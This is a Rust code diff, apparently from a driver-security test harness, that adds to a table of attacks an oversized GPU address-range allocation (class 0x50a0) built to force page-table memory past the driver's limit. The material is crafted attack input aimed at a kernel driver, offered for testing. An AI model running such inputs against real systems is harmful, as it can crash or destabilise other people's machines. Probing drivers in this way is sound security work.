@@ -59,6 +59,13 @@ pub(super) const ATTACKS: &[Attack] = &[
         map_doorbell,
     ),
     attack(
+        "the GPU's memory as page tables of a range of addresses (class 0x50a0)",
+        "gpu_vaspace.c:gvaspaceAlloc_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        range_tables,
+    ),
+    attack(
         "device registers as host memory (class 0x71, uncached)",
         "osmemdesc.c:osCreateOsDescriptorFromIoMemory",
         Driver::NotModelled,
@@ -254,6 +261,14 @@ fn map_doorbell(a: &Attacker) -> Told {
     }
     put_u64(&mut outer, 24, 0x1_0000);
     a.escape(0x57, &mut outer, 56)
+}
+
+/// A range of 1 TiB, whose tables are 2 GiB and more: twice the limit.
+fn range_tables(a: &Attacker) -> Told {
+    let mut params = rm::memory_params(a.client.handle, 1 << 40);
+    put_u32(&mut params, 8, 0x8_0000);
+    put_u32(&mut params, 24, 0);
+    a.alloc(rm::DEVICE_HANDLE, OWN, 0x50A0, &mut params)
 }
 
 fn io_memory(a: &Attacker) -> Told {
